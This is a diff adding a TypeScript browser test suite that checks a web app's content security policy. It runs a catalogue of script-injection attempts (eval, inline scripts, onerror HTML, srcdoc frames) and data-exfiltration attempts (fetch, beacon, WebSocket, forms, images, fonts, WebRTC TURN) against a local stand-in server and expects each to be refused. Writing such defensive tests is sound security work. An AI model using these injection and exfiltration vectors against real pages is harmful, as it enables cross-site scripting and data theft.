@@ -1,0 +1,168 @@
+/** The content security policy at work: tried in the running page, with the demo as the stranger's server. */
+import { createSocket } from 'node:dgram'
+import { once } from 'node:events'
+import { type AddressInfo, createServer } from 'node:net'
+import type { Page } from 'playwright-core'
+import { expect, it, onTestFinished } from 'vitest'
+import { openDesk } from '../support/desk.ts'
+
+async function openPage() {
+  const desk = await openDesk()
+  const app = await desk.start()
+  const { page } = await app.open()
+  return { desk, page }
+}
+
+type Attempt = (address: string) => unknown
+/** What runs where it must not says so. */
+type Scope = typeof globalThis & { hasRun?: boolean }
+
+const CODE: Readonly<Record<string, Attempt>> = {
+  // biome-ignore lint/security/noGlobalEval: that it is refused is what is tried
+  eval: () => setTimeout(() => globalThis.eval('globalThis.hasRun = true')),
+  'a function made of a string': () => setTimeout(() => new Function('globalThis.hasRun = true')()),
+  'a string as a timer': () => setTimeout('globalThis.hasRun = true'),
+  'an inline script': () => {
+    const script = document.createElement('script')
+    script.textContent = 'globalThis.hasRun = true'
+    document.head.append(script)
+  },
+  'an inline event handler': () => {
+    const button = document.createElement('button')
+    button.setAttribute('onclick', 'globalThis.hasRun = true')
+    document.body.append(button)
+    button.click()
+  },
+  'HTML made of a string': () => {
+    document.body.innerHTML = '<img src="none" onerror="globalThis.hasRun = true">'
+  },
+  'a document made of a string': () => {
+    const frame = document.createElement('iframe')
+    frame.srcdoc = '<script>parent.hasRun = true</script>'
+    document.body.append(frame)
+  },
+  'a script from elsewhere': (address) => {
+    const script = document.createElement('script')
+    script.src = address
+    document.head.append(script)
+  },
+  'a worker from elsewhere': (address) => new Worker(address),
+  'a worker made of a string': () => new Worker(URL.createObjectURL(new Blob(['0']))),
+  'a service worker': () => navigator.serviceWorker.register('/assets/worker.js'),
+}
+
+const TRAFFIC: Readonly<Record<string, Attempt>> = {
+  fetch: (address) => fetch(address, { method: 'POST', body: 'stolen' }),
+  XMLHttpRequest: (address) => {
+    const request = new XMLHttpRequest()
+    request.open('POST', address)
+    request.send('stolen')
+  },
+  'a WebSocket': (address) => new WebSocket(address.replace('http:', 'ws:')),
+  'an event source': (address) => new EventSource(address),
+  'a beacon': (address) => navigator.sendBeacon(address, 'stolen'),
+  'an image': (address) => {
+    new Image().src = address
+  },
+  'a sound': (address) => new Audio(address).play(),
+  'a font': (address) => new FontFace('stolen', `url(${address})`).load(),
+  'a style sheet': (address) => {
+    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: address }))
+  },
+  'an inline style': (address) => {
+    const style = document.createElement('style')
+    style.textContent = `body { background: url(${address}) }`
+    document.head.append(style)
+  },
+  'a prefetch': (address) => {
+    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: address }))
+  },
+  'a frame': (address) => {
+    document.body.append(Object.assign(document.createElement('iframe'), { src: address }))
+  },
+  'a form': (address) => {
+    const form = Object.assign(document.createElement('form'), { action: address, method: 'post' })
+    document.body.append(form)
+    form.submit()
+  },
+  'another base for all addresses': (address) => {
+    document.head.append(Object.assign(document.createElement('base'), { href: address }))
+  },
+}
+
+/** Whether the policy speaks against an attempt. */
+async function isRefused(page: Page, attempt: Attempt, address: string): Promise<boolean> {
+  // A fresh page, so that no refusal is taken for another's.
+  await page.reload()
+  const refused = page.evaluate(
+    () =>
+      new Promise<boolean>((resolve) => {
+        document.addEventListener('securitypolicyviolation', () => resolve(true), { once: true })
+        setTimeout(() => resolve(false), 3_000)
+      }),
+  )
+  await page.evaluate(attempt, address).catch(() => {})
+  return refused
+}
+
+it('the policy comes as a header, and names no source but our own files', async () => {
+  const { page } = await openPage()
+  const response = await page.reload()
+  const header = response?.headers()['content-security-policy'] ?? ''
+  const policy = new Map(
+    header.split(';').map((directive) => {
+      const [name = '', ...values] = directive.trim().split(/\s+/)
+      return [name, values.join(' ')] as const
+    }),
+  )
+  expect(policy.get('default-src')).toBe("'none'")
+  for (const name of ['connect-src', 'base-uri', 'form-action', 'frame-ancestors', 'trusted-types']) {
+    expect([name, policy.get(name)]).toEqual([name, "'none'"])
+  }
+  expect(policy.get('require-trusted-types-for')).toBe("'script'")
+  expect(new Set(policy.values())).toEqual(new Set(["'none'", "'self'", "'script'"]))
+})
+
+it.each([
+  ['runs nothing but our own files', CODE],
+  ['brings nothing out and nothing in', TRAFFIC],
+])('the page %s', async (_, attempts) => {
+  const { desk, page } = await openPage()
+  for (const [name, attempt] of Object.entries(attempts)) {
+    const refused = await isRefused(page, attempt, `${desk.service.address}/stolen`)
+    const ran = await page.evaluate(() => (globalThis as Scope).hasRun === true)
+    expect({ name, refused, ran }).toEqual({ name, refused: true, ran: false })
+  }
+  expect(desk.service.requests).toEqual([])
+})
+
+it('what no policy holds back, WebRTC and early connections, reaches nobody either', async () => {
+  const { page } = await openPage()
+  let reached = 0
+  const tcp = createServer(() => {
+    reached += 1
+  }).listen(0, '127.0.0.1')
+  await once(tcp, 'listening')
+  onTestFinished(() => void tcp.close())
+  const { port } = tcp.address() as AddressInfo
+  const udp = createSocket('udp4', () => {
+    reached += 1
+  }).bind(port, '127.0.0.1')
+  await once(udp, 'listening')
+  onTestFinished(() => void udp.close())
+
+  await page.evaluate(async (host) => {
+    for (const rel of ['preconnect', 'dns-prefetch']) {
+      document.head.append(Object.assign(document.createElement('link'), { rel, href: `http://${host}` }))
+    }
+    const way = { username: 'ana', credential: 'stolen' }
+    const connection = new RTCPeerConnection({
+      iceServers: [{ urls: `stun:${host}` }, { urls: [`turn:${host}`, `turn:${host}?transport=tcp`], ...way }],
+    })
+    connection.createDataChannel('stolen')
+    await connection.setLocalDescription(await connection.createOffer())
+    await new Promise((resolve) => setTimeout(resolve, 1_500))
+    connection.close()
+  }, `127.0.0.1:${port}`)
+  expect(reached).toBe(0)
+})
